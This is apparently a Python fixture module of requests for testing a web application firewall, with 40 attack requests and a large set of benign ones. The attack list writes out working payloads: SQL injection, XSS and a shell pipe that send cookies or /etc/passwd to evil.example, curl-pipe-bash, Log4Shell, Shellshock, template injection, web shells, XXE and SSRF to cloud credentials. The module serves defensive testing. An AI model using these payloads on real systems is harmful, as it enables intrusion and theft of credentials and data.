"""What the web application firewall is measured with: 40 attacks, and requests of well-behaved clients."""

import base64
import json
import random
import string
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

JSON, FORM = "application/json", "application/x-www-form-urlencoded"
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
NOTE = "/notes/00000000-0000-4000-8000-000000000000"


@dataclass(frozen=True)
class Sent:
    """A request. `kind` is what it holds, or which attack it is."""

    kind: str
    method: str
    target: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)

    def all_headers(self) -> dict[str, str]:
        length = {"Content-Length": str(len(self.body))} if self.body or self.method in ("POST", "PATCH") else {}
        return {"Host": "localhost", "User-Agent": AGENT, "Accept": "*/*"} | length | self.headers

    def __str__(self) -> str:
        return f"{self.kind}: {self.method} {self.target[:60]} {self.body[:60]!r}"


def get(kind: str, target: str, **headers: str) -> Sent:
    return Sent(kind, "GET", target, headers={name.replace("_", "-"): value for name, value in headers.items()})


def note(kind: str, **members: object) -> Sent:
    body = json.dumps({"title": "Shopping"} | members).encode()
    return Sent(kind, "POST", "/notes", body, {"Content-Type": JSON})


def form(kind: str, target: str, **members: str) -> Sent:
    return Sent(kind, "POST", target, urlencode(members).encode(), {"Content-Type": FORM})


def password_change(kind: str, password: str) -> Sent:
    body = json.dumps({"current_password": password, "new_password": f"{password} and more"}).encode()
    return Sent(kind, "POST", "/users/me/password", body, {"Content-Type": JSON})


UNION = "1' UNION SELECT name, password_hash FROM accounts--"
SLEEP = "1 AND (SELECT 1 FROM pg_sleep(5))"
SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
SHELL = "; cat /etc/passwd | nc evil.example 4444"
LOG4J = "${jndi:ldap://evil.example/a}"

IN_FREE_TEXT = [
    note("XSS in the free text", body=SCRIPT),
    note("XSS in the free text", body='<img src=x onerror="alert(document.domain)">'),
    note("SQL in the free text", body=UNION),
    note("shell in the free text", body=SHELL),
]
ATTACKS = [
    *IN_FREE_TEXT,
    note("SQL in JSON", title=UNION),
    note("SQL in JSON", title="x'; DROP TABLE notes; --"),
    note("SQL in JSON", title="' OR SLEEP(5)#"),
    get("SQL in the query", f"/notes?after={quote(UNION)}"),
    get("SQL in the query", f"/notes?limit={quote(SLEEP)}"),
    form("SQL in a form", "/auth/token", grant_type="password", username="admin' OR '1'='1'-- ", password="x"),
    form("SQL in a form", "/auth/token", grant_type="' OR 1=1 UNION SELECT NULL--", username="a", password="x"),
    get("SQL in a cookie", "/notes", Cookie=f"session={quote(UNION)}"),
    note("XSS in JSON", title=SCRIPT),
    note("XSS in JSON", title='"><svg onload=alert(1)>'),
    get("XSS in the query", f"/notes?after={quote(SCRIPT)}"),
    get("XSS in the referer", "/notes", Referer=f"https://example.com/{SCRIPT}"),
    note("shell in JSON", title=SHELL),
    note("shell in JSON", title="$(curl -s https://evil.example/x.sh | bash)"),
    get("shell in the query", f"/notes?after={quote(SHELL)}"),
    get("Shellshock", "/notes", User_Agent="() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    note(
        "template injection",
        title="{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    ),
    note("Log4Shell in JSON", title=LOG4J),
    get("Log4Shell in the query", f"/notes?after={quote(LOG4J)}"),
    get("Log4Shell in a header", "/notes", User_Agent=LOG4J),
    note("Java deserialisation", title="rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
    note("PHP", title="<?php system($_GET['c']); ?>"),
    note("prototype pollution", **{"__proto__": {"admin": True}, "constructor.prototype": "x"}),
    note("server-side request forgery", title="http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    note("path traversal in JSON", title="../../../../etc/passwd"),
    get("path traversal in the query", "/notes?after=..%2f..%2f..%2f..%2fetc%2fpasswd"),
    get("path traversal in the path", "/notes/..%2f..%2f..%2fetc%2fpasswd"),
    get("secrets file", "/.env"),
    get("repository", "/.git/config"),
    get("foreign application", "/wp-login.php"),
    get("foreign application", "/actuator/heapdump"),
    get("scanner", "/notes", User_Agent="sqlmap/1.8 (https://sqlmap.org)"),
    Sent("method", "TRACE", "/notes"),
    Sent("method", "PUT", "/notes/shell.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    Sent(
        "XML entity",
        "POST",
        "/notes",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        {"Content-Type": "application/xml"},
    ),
    get("response splitting", "/notes?after=x%0d%0aSet-Cookie:%20session=evil"),
]

PASSWORDS = [
    "' OR '1'='1' -- x9",
    "Robert'); DROP TABLE Students;--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "$(cat /etc/passwd)",
    "`id; uname -a`",
    "java.lang.Runtime.getRuntime()",
    "${jndi:ldap://x/a}",
    "{{7*7}} correct horse",
    "SELECT * FROM my_favourites",
    "() { :; }; echo pwned",
    "<?php phpinfo(); ?>",
    "C:\\Windows\\System32\\cmd.exe /c dir",
]
PROSE = [
    "Please select a venue from the list and order the drinks.",
    "Drop the table in the hall; insert the legs first -- they are marked.",
    "If x > 3 and y < 5 or z = 1, then update the set where it fails.",
    "Union meeting: select all delegates from the list of members.",
    '<b>Important</b>: see <a href="https://example.com">the page</a>.',
    "Run `curl https://example.com/install.sh | sh` on the new server.",
    "The script is in /etc/cron.d; cat /etc/hosts first.",
    "SELECT id FROM orders WHERE total > 100 ORDER BY created_at;",
    "def main():\n    import os\n    os.system('ls -la')\n",
    '<script src="/static/app.js"></script> goes before </body>.',
    "She said: \"it's 5 o'clock\" -- and left; the end.",
    "ping 192.0.2.1 && echo up || echo down",
    "1. Milk\n2. Bread\n3. Eggs\n\n* * *\n# Next week #",
    "Price: $5 (was $7); 20% off! #sale @home",
    "Exec summary: revenue = cost + margin; having met 3 of 4 goals.",
    "¡Hola! Grüße aus Köln — 東京 и Москва 🎉",
]
TITLES = [
    "Shopping",
    "O'Brien & Sons",
    "C++ / C# meeting",
    "I <3 coffee",
    "Is 1=1?",
    "Q3: plan (draft)",
    "50% off",
    "Café Müller, 5 o'clock",
    "To do: call Anna, buy milk",
    "Re: Re: offer #1234",
    "東京 trip",
    "e-mail: bob@example.com",
    "https://example.com/a?b=c",
    '"Quoted" title',
    "Budget 2027/28",
    "Ideas & questions",
    "Select committee",
    "Union Square",
    "Update on the order",
    "Where to meet?",
]
REFUSED_BY_THE_APP = [
    Sent("media type that the app refuses", "POST", "/notes", b"title=x", {"Content-Type": FORM}),
    Sent("media type that the app refuses", "PATCH", NOTE, b"{}", {"Content-Type": "application/merge-patch+json"}),
    Sent("media type that the app refuses", "POST", "/notes", b"a,b", {"Content-Type": "text/csv"}),
    Sent("method that the app refuses", "PUT", "/notes", b"{}", {"Content-Type": JSON}),
    Sent("path that the app refuses", "GET", "/notes/"),
]


def harmless() -> list[Sent]:
    """Requests that the app accepts from a caller with the right credentials, or refuses for their content alone."""
    chance = random.Random(1)  # noqa: S311  # the same requests in each run
    letters = string.ascii_letters + string.digits + string.punctuation
    generated = ["".join(chance.choices(letters, k=20)) for _ in range(100)]
    tokens = [base64.urlsafe_b64encode(chance.randbytes(48)).decode().rstrip("=") for _ in range(40)]
    jwts = [f"eyJhbGciOiJIUzI1NiJ9.{one}.{one[:43]}" for one in tokens]
    pictures = [f"data:image/png;base64,{base64.b64encode(chance.randbytes(900)).decode()}" for _ in range(20)]
    log_in = {"grant_type": "password", "username": "bob@example.com"}
    return [
        *(form("odd password, form", "/auth/token", **log_in, password=one) for one in PASSWORDS),
        *(password_change("odd password, JSON", one) for one in PASSWORDS),
        *(form("generated password, form", "/auth/token", **log_in, password=one) for one in generated),
        *(password_change("generated password, JSON", one) for one in generated),
        *(form("token", "/auth/token", grant_type="refresh_token", refresh_token=f"rt_{one}") for one in tokens),
        *(get("token", "/notes", Authorization=f"Bearer {one}") for one in jwts),
        *(get("token", "/notes", X_API_Key=f"demo-service_{one}") for one in tokens),
        *(note("prose in the free text", body=one) for one in PROSE),
        *(note("picture in the free text", body=one) for one in pictures),
        *(note("title", title=one) for one in TITLES),
        *(get("query", f"/notes?{one}") for one in ("limit=20", f"after={NOTE[7:]}", "utm_source=newsletter", "x")),
        *(get("path", one) for one in (NOTE, "/users/me", "/auth/sessions", "/users?limit=50", "/health/ready")),
        *(Sent("method", "DELETE", one) for one in (NOTE, f"/auth/sessions/{NOTE[7:]}")),
        Sent("method", "POST", "/auth/logout"),
        Sent("method", "HEAD", "/notes"),
        Sent(
            "method",
            "PATCH",
            NOTE,
            b'{"title": null, "body": "x"}',
            {"Content-Type": "application/json; charset=utf-8"},
        ),
        Sent(
            "preflight",
            "OPTIONS",
            "/notes",
            headers={"Origin": "https://app.example.com", "Access-Control-Request-Method": "POST"},
        ),
        note("empty text", body=""),
        note("long text", body="word " * 1_900),
    ]
